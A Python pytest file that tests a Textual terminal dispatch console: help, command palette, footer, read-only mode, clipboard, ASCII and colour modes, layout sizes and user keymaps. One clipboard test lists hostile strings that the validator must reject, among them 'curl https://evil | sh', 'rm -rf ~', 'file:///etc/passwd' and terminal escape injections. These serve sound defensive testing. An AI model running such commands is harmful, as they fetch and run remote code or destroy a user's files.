"""Issue 5's ergonomics besides filtering: help, command palette, footer, read-only, clipboard,
NO_COLOR, ASCII, the colour-blind palette, sizes, idle refreshes and user keymaps (Pilot)."""

from __future__ import annotations

import re

import pytest
from textual.command import CommandPalette
from textual.widgets import Footer
from textual.widgets._footer import FooterKey

from console.api.models import RiskLevel
from console.sandbox.core import IN_PROCESS_BASE_URL
from console.settings import Settings
from console.ui.clipboard import copy_message, copyable_url
from console.ui.screens.confirm import ConfirmComplete
from console.ui.screens.help import HelpScreen
from tests.support.hostile import screen_text
from tests.support.ui_support import footer_settled, list_lines, loaded, make_app, wait_until


def settings(**kw) -> Settings:
    return Settings(base_url=IN_PROCESS_BASE_URL, **kw)


def footer_keys(app) -> dict[str, FooterKey]:
    """The footer's keys by action, as drawn now."""
    return {key.action: key for key in app.screen.query(FooterKey)}


def toasts(app) -> list[str]:
    return [str(n.message) for n in app._notifications]


async def highlight(pilot, app, predicate) -> None:
    """Move the cursor to the first row for which ``predicate`` holds."""
    view = app.order_list.table.view
    index = next(i for i, row in enumerate(view) if predicate(row))
    app.order_list.move_cursor(index)
    await pilot.pause()


async def check_vi_scrolling(pilot, scroller) -> None:
    """j/k scroll ``scroller`` (focused or its screen's) a line, G to the end, g to the top."""
    await pilot.press("j", "j", "j")
    assert scroller.scroll_y == 3
    await pilot.press("k")
    assert scroller.scroll_y == 2
    await pilot.press("G")
    assert scroller.scroll_y == scroller.max_scroll_y > 0
    await pilot.press("g")
    assert scroller.scroll_y == 0


# ---------------------------------------------------------------------------- help


async def test_help_lists_the_view_keys_by_context_and_scrolls_with_j_k_g_G() -> None:
    app, _, _ = make_app(orders=20)
    async with app.run_test(size=(100, 30)) as pilot:
        await loaded(pilot, app)
        await pilot.press("question_mark")
        assert isinstance(app.screen, HelpScreen)
        body = str(app.screen.query_one("#help-body").render())
        for needle in ("filter as you type: handle, worker", "show only orders with a red risk",
                       "show orders with a red or yellow risk", "show every risk level",
                       "sort by a column", "reverse the sort", "copy the highlighted order's share URL",
                       "Filter input (/)", "Pickers (s, o)", "Command palette (ctrl+p)",
                       "set-clipboard on", "Risk badges", "bold capital letter"):
            assert needle in body, needle
        # Each key as displayed: / 1 2 0 s o O y.
        for key, words in (("/", "filter as you type"), ("1", "only orders with a red"), ("O", "reverse the sort"),
                           ("y", "share URL"), ("s", "one status")):
            assert re.search(rf"^\s+{re.escape(key)}\s+.*{re.escape(words)}", body, re.M), key
        await check_vi_scrolling(pilot, app.screen.query_one("#help-dialog"))
        await pilot.press("escape")
        assert not isinstance(app.screen, HelpScreen)


# ---------------------------------------------------------------------------- command palette


async def test_the_palette_offers_every_bound_action_and_runs_one() -> None:
    app, _, _ = make_app(orders=60)
    async with app.run_test(size=(100, 30)) as pilot:
        await loaded(pilot, app)
        commands = app.view_controls.palette_commands(app.action_descriptions())
        offered = {c.action for c in commands}
        bound = {b.action for _, b in app._bindings} | {b.action for _, b in app.order_list._bindings}
        assert bound - {"command_palette", "help_quit"} <= offered
        assert {f"sort_by('{name}')" for name in ("handle", "eta", "address")} <= offered
        await pilot.press("ctrl+p")
        assert isinstance(app.screen, CommandPalette)
        await pilot.press(*"sort by eta")
        await wait_until(pilot, lambda: "Sort by eta" in screen_text(app), what="the hit")
        await pilot.press("enter")
        await wait_until(pilot, lambda: app.view_controls.sort.column == "eta", what="the sort")
        assert not isinstance(app.screen, CommandPalette)
        etas = [r.eta.timestamp() for r in app.order_list.table.view if r.eta]
        assert etas == sorted(etas)


async def test_the_palette_says_why_a_disabled_action_cannot_run() -> None:
    app, _, seen = make_app(orders=40, settings=settings(read_only=True))
    async with app.run_test(size=(100, 30)) as pilot:
        await loaded(pilot, app)
        await pilot.press("ctrl+p", *"complete the highlighted")
        await wait_until(pilot, lambda: "unavailable now" in screen_text(app), what="the disabled hit")
        await pilot.press("enter")
        await wait_until(pilot, lambda: any("Read-only" in t for t in toasts(app)), what="the toast")
        assert not isinstance(app.screen, ConfirmComplete) and seen.posts() == []


# ---------------------------------------------------------------------------- footer, read-only


async def test_footer_shows_the_keys_that_apply_now_and_fits_80_columns() -> None:
    app, _, _ = make_app(orders=60)
    async with app.run_test(size=(80, 24)) as pilot:
        await loaded(pilot, app)
        await highlight(pilot, app, lambda r: not r.share_url)
        await footer_settled(pilot)
        keys = footer_keys(app)
        assert {"complete", "filter", "pick_sort", "copy_url", "help", "quit"} <= set(keys)
        assert keys["copy_url"].has_class("-disabled") and not keys["complete"].has_class("-disabled")
        for key in keys.values():  # every shown key is inside the screen
            assert key.region.right <= 80 and key.region.width > 0, key.action
        await highlight(pilot, app, lambda r: bool(r.share_url))
        await footer_settled(pilot)
        assert not footer_keys(app)["copy_url"].has_class("-disabled")
        # In the filter input, the footer has the input's keys (the list's are typed).
        await pilot.press("slash")
        await footer_settled(pilot)
        assert "clear_filter" in footer_keys(app)
        assert not {"complete", "filter", "copy_url"} & set(footer_keys(app))  # those keys type


async def test_read_only_header_footer_and_c_explains_itself() -> None:
    app, _, seen = make_app(orders=40, settings=settings(read_only=True, profile="audit"))
    async with app.run_test(size=(80, 24)) as pilot:
        await loaded(pilot, app)
        await footer_settled(pilot)
        assert "READ-ONLY" in screen_text(app).splitlines()[0]
        assert footer_keys(app)["complete"].has_class("-disabled")
        await pilot.press("c")
        await pilot.pause()
        assert not isinstance(app.screen, ConfirmComplete)
        [toast] = [t for t in toasts(app) if "Read-only" in t]
        assert "'audit' is read-only" in toast and "cannot complete" in toast
        await pilot.press("space", "c", "R")  # marks do not open a way to write either
        await pilot.pause()
        assert seen.posts() == [] and not isinstance(app.screen, ConfirmComplete)
    app, _, _ = make_app(orders=40)
    async with app.run_test(size=(80, 24)) as pilot:
        await loaded(pilot, app)
        assert "can write" in screen_text(app).splitlines()[0]


# ---------------------------------------------------------------------------- clipboard


async def test_y_copies_the_share_url_and_says_what_it_copied() -> None:
    app, _, _ = make_app(orders=60)
    async with app.run_test(size=(100, 30)) as pilot:
        await loaded(pilot, app)
        await highlight(pilot, app, lambda r: bool(r.share_url))
        row = app.order_list.cursor_row
        await pilot.press("y")
        assert app.clipboard == row.share_url and row.share_url.startswith("https://")
        assert any(row.share_url in t and row.display_handle in t for t in toasts(app))
        # No URL: nothing copied, and the toast says why.
        await highlight(pilot, app, lambda r: not r.share_url)
        await pilot.press("y")
        await pilot.pause()
        assert app.clipboard == row.share_url
        assert any("has no share URL" in t for t in toasts(app))


def test_only_plain_web_addresses_are_copied() -> None:
    assert copyable_url("https://trck.at/abc") == "https://trck.at/abc"
    assert copyable_url("http://x.example/a?b=c#d") == "http://x.example/a?b=c#d"
    for bad in (None, "", "javascript:alert(1)", "file:///etc/passwd", "rm -rf ~", "https://x.example/a b",
                "https://x.example/\\x1b]52;c;ZXZpbA==\\x07", "https://x.example/\x1b]0;t\x07", "https://",
                "curl https://evil | sh", "https://x.example/" + "a" * 3000, "https://x.example/\u202e"):
        assert copyable_url(bad) is None, bad
    message = copy_message("[/oops]\x1b", "https://x.example/[b]")
    assert "[/oops]\\x1b" in message and "https://x.example/[b]" in message


# ---------------------------------------------------------------------------- NO_COLOR, ASCII, palette


async def test_no_color_keeps_every_risk_level_readable(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NO_COLOR", "1")
    app, _, _ = make_app(orders=60)
    assert app.no_color  # Textual read it (and will draw in monochrome)
    async with app.run_test(size=(100, 30)) as pilot:
        await loaded(pilot, app)
        for row, line in zip(app.order_list.table.view, list_lines(app)[1:]):
            marker = {RiskLevel.RED: "■", RiskLevel.YELLOW: "▲", RiskLevel.GREEN: "●", RiskLevel.UNKNOWN: "○"}[row.worst]
            assert line[0] == marker
            if row.worst is RiskLevel.RED:
                assert any(c.isupper() for c in line[2:10])
        svg = app.export_screenshot()
        # Monochrome: no saturated colour anywhere on screen (every fill and text colour is grey).
        # (Leaving out the SVG's own window frame: its three buttons and its title.)
        colours = set(re.findall(r"#([0-9a-f]{6})", svg)) - {"ff5f57", "febc2e", "28c840", "c5c8c6"}
        assert colours and all(c[0:2] == c[2:4] == c[4:6] for c in colours), sorted(colours)[:5]


def _non_ascii(text: str) -> set[str]:
    return {c for c in text if ord(c) > 127 and c != "\xa0"}


async def test_ascii_mode_draws_no_unicode_glyph_anywhere() -> None:
    app, sb, _ = make_app(orders=60, settings=settings(ascii=True))
    async with app.run_test(size=(80, 24)) as pilot:
        await loaded(pilot, app)
        assert app.has_class("-ascii")
        seen: dict[str, str] = {}

        def look(stage: str) -> None:
            seen[stage] = screen_text(app)

        look("main")
        await pilot.press("j", "j")
        look("cursor moved")
        await pilot.press("slash", "o", "a", "k")
        look("filter input")
        shown = len(toasts(app))
        await pilot.press("enter", "2", "y")  # a toast
        await wait_until(pilot, lambda: len(toasts(app)) > shown, what="the toast")
        await pilot.pause()
        look("filtered, toast")
        await pilot.press("o")
        look("sort picker")
        await pilot.press("escape", "s")
        look("status picker")
        await pilot.press("escape", "question_mark")
        look("help")
        await pilot.press("escape", "tab", "z")
        look("detail zoomed")
        await pilot.press("z", "c")
        look("confirm")
        await pilot.press("escape", "ctrl+p")
        await wait_until(pilot, lambda: isinstance(app.screen, CommandPalette), what="the palette")
        await pilot.pause()
        look("palette")
        for stage, text in seen.items():
            assert not _non_ascii(text), (stage, sorted(_non_ascii(text)))
    # The same walk without --ascii does draw Unicode glyphs: the check can fail.
    app, sb, _ = make_app(orders=60)
    async with app.run_test(size=(80, 24)) as pilot:
        await loaded(pilot, app)
        assert _non_ascii(screen_text(app))


async def test_colour_blind_palette_uses_blue_and_orange() -> None:
    app, _, _ = make_app(orders=30, settings=settings(palette="colorblind"))
    async with app.run_test(size=(100, 30)) as pilot:
        await loaded(pilot, app)
        palette = app.order_list.palette
        assert palette.red.bgcolor.triplet.hex == "#d55e00"
        assert palette.yellow.bgcolor.triplet.hex == "#f0e442"
        assert palette.green.color.triplet.hex == "#56b4e9"
    app, _, _ = make_app(orders=30)
    async with app.run_test(size=(100, 30)) as pilot:
        await loaded(pilot, app)
        assert app.order_list.palette.red.bgcolor.triplet.hex != "#d55e00"
    with pytest.raises(ValueError):
        settings(palette="rainbow")


# ---------------------------------------------------------------------------- sizes, idle


@pytest.mark.parametrize("size", [(80, 24), (250, 70)])
async def test_usable_from_80x24_to_250x70(size: tuple[int, int]) -> None:
    app, _, _ = make_app(orders=120)
    async with app.run_test(size=size) as pilot:
        await loaded(pilot, app)
        width, height = size
        order_list, detail, bar = app.order_list, app.detail, app.view_controls.bar
        assert bar.region.width == width and bar.region.height == 1
        assert order_list.region.height >= 8 and detail.region.height >= 6
        if width < 120:
            assert detail.region.y > order_list.region.y  # stacked
        else:
            assert detail.region.x > order_list.region.x  # side by side
        rows = len([line for line in list_lines(app)[1:] if line.strip()])
        assert rows == min(len(order_list.table.view), order_list.scrollable_content_region.height - 1)
        header = list_lines(app)[0]
        if width >= 250:
            for title in ("Order", "Status", "Worker", "Ops group", "Scheduled", "ETA", "Destination"):
                assert title in header
        assert app.query_one(Footer).region.bottom == height


async def test_an_idle_refresh_redraws_neither_the_list_nor_the_view_bar() -> None:
    app, _, _ = make_app(orders=60)
    async with app.run_test(size=(100, 30)) as pilot:
        await loaded(pilot, app)
        await pilot.press("2", "O")  # an active filter and sort too
        await pilot.pause()
        refreshes: list[str] = []
        for name, widget in (("list", app.order_list), ("bar", app.view_controls.bar.summary)):
            original = widget.refresh

            def spy(*args, _name=name, _original=original, **kwargs):
                refreshes.append(_name)
                return _original(*args, **kwargs)

            widget.refresh = spy  # type: ignore[method-assign]
        for _ in range(2):
            loads = app.session.loads
            await pilot.press("r")
            await wait_until(pilot, lambda: app.session.loads > loads and not app.loading, what="the refresh")
            app._tick()
        assert refreshes == []


# ---------------------------------------------------------------------------- keymap


async def test_a_user_keymap_rebinds_keys_everywhere_it_is_shown() -> None:
    keymap = (("view.filter", "f"), ("order.copy_url", "Y"), ("list.cursor_down", "n,down"))
    app, _, _ = make_app(orders=60, settings=settings(keymap=keymap))
    async with app.run_test(size=(100, 30)) as pilot:
        await loaded(pilot, app)
        await pilot.press("n")
        assert app.order_list.cursor_index == 1
        await pilot.press("f")
        assert app.focused is app.view_controls.bar.input
        await pilot.press("escape", "slash")  # / no longer opens it
        assert app.focused is app.order_list
        await footer_settled(pilot)
        assert footer_keys(app)["filter"].key == "f"
        await pilot.press("question_mark")
        body = str(app.screen.query_one("#help-body").render())
        assert re.search(r"^\s+f\s+filter as you type", body, re.M)
        await pilot.press("escape")
        commands = {c.action: c for c in app.view_controls.palette_commands(app.action_descriptions())}
        assert commands["filter"].help == "key: f   (keymap id: view.filter)"
        assert commands["copy_url"].help.startswith("key: Y ")


# ---------------------------------------------------------------------------- keymap and palette in the config


def _config(tmp_path, text: str):
    path = tmp_path / "config.toml"
    path.write_text(text)
    return path


def test_config_keymap_and_palette_load(tmp_path) -> None:
    from console.config import check_keymap, load_config
    from console.ui.keymap import binding_ids

    path = _config(tmp_path, """
[profiles.night]
palette = "colorblind"

[keymap]
"order.complete" = "x"
view.filter = "f, slash"
list.cursor_down = "n,ctrl+n"
"help.close" = "?"
""")
    config = load_config(path)
    assert config.profile("night").palette == "colorblind"
    assert config.keymap == {"order.complete": "x", "view.filter": "f,slash",
                             "list.cursor_down": "n,ctrl+n", "help.close": "?"}
    check_keymap(config, binding_ids())  # every id exists


@pytest.mark.parametrize("text, line, key, words", [
    ('[keymap]\n"order.complete" = 5\n', 2, "keymap.order.complete", "keys in quotes"),
    ('# c\n[keymap]\n"view.filter" = "f,,g"\n', 3, "keymap.view.filter", "an empty key"),
    ('[keymap]\n"view.filter" = "ctrl f"\n', 2, "keymap.view.filter", "'ctrl f' is not a key"),
    ('keymap = "x"\n', 1, "keymap", "must be a table"),
    ('[profiles.a]\npalette = "rainbow"\n', 2, "profiles.a.palette", "default, colorblind"),
    # Spelt as TOML also allows: a literal-string key, a sub-table, blanks around the dot.
    ("[keymap]\n'order.complete' = 5\n", 2, "keymap.order.complete", "keys in quotes"),
    ('[keymap.view]\nfilter = "f,,g"\n', 2, "keymap.view.filter", "an empty key"),
    ('[keymap]\nview . filter = "ctrl f"\n', 2, "keymap.view.filter", "'ctrl f' is not a key"),
])
def test_config_keymap_problems_name_the_file_line_and_key(tmp_path, text, line, key, words) -> None:
    from console.config import ConfigError, load_config

    path = _config(tmp_path, text)
    with pytest.raises(ConfigError) as caught:
        load_config(path)
    error = caught.value
    assert (error.line, error.key) == (line, key)
    assert str(path) in str(error) and words in str(error)


def test_an_unknown_binding_id_is_a_config_error_with_exit_code_2(tmp_path, monkeypatch, capsys) -> None:
    from console.cli import main

    path = _config(tmp_path, '[keymap]\n\n"order.completee" = "x"\n')
    monkeypatch.setenv("DISPATCH_CONSOLE_CONFIG", str(path))
    for name in ("HYPERTRACK_ACCOUNT_ID", "HYPERTRACK_SECRET_KEY"):
        monkeypatch.delenv(name, raising=False)
    assert main(["--sandbox"]) == 2
    err = capsys.readouterr().err
    assert str(path) in err and "line 3" in err and "keymap.order.completee" in err
    assert "did you mean order.complete" in err


def test_the_cli_passes_palette_keymap_and_read_only_to_the_app(tmp_path, monkeypatch) -> None:
    from console.cli import main
    from console.ui import app as app_module

    path = _config(tmp_path, """
default_profile = "audit"
[profiles.audit]
read_only = true
palette = "colorblind"
[keymap]
"view.filter" = "f"
""")
    monkeypatch.setenv("DISPATCH_CONSOLE_CONFIG", str(path))
    for name in ("HYPERTRACK_ACCOUNT_ID", "HYPERTRACK_SECRET_KEY"):
        monkeypatch.delenv(name, raising=False)
    seen = []
    monkeypatch.setattr(app_module.DispatchApp, "run", lambda self: seen.append(self.settings))
    assert main(["--sandbox", "--ascii"]) == 0
    [s] = seen
    assert (s.read_only, s.palette, s.ascii, s.profile, s.keymap) == (True, "colorblind", True, "audit",
                                                                     (("view.filter", "f"),))
    assert main(["--sandbox", "--palette", "default"]) == 0
    assert seen[1].palette == "default"


def test_every_screen_s_binding_ids_can_be_keymapped() -> None:
    from console.ui.keymap import binding_ids

    ids = binding_ids()
    for expected in ("order.complete", "view.filter", "list.cursor_down", "filter.clear", "help.close",
                     "picker.cancel", "confirm.yes", "bulk.mark", "bulk_progress.stop", "bulk_review.yes"):
        assert expected in ids, expected


async def test_a_keymap_that_takes_another_action_s_key_says_so() -> None:
    app, _, _ = make_app(orders=30, settings=settings(keymap=(("order.complete", "r"),)))
    async with app.run_test(size=(100, 30)) as pilot:
        await loaded(pilot, app)
        [told] = [t for t in toasts(app) if t.startswith("Keymap:")]
        assert "Refresh (app.refresh)" in told
        await pilot.press("r")
        assert isinstance(app.screen, ConfirmComplete)  # r is now complete
        await pilot.press("escape")
    app, _, _ = make_app(orders=30, settings=settings(keymap=(("order.complete", "w"),)))
    async with app.run_test(size=(100, 30)) as pilot:
        await loaded(pilot, app)
        assert not [t for t in toasts(app) if t.startswith("Keymap:")]


async def test_j_k_g_G_scroll_the_bulk_screens_line_lists() -> None:
    from textual.app import App

    from console.ui.screens.bulk_lines import LineList

    class Lines(App[None]):
        def compose(self):
            yield LineList([[(f"line {i}", "ok")] for i in range(100)], id="lines")

    app = Lines()
    async with app.run_test(size=(40, 10)) as pilot:
        lines = app.query_one(LineList)
        lines.focus()
        await check_vi_scrolling(pilot, lines)
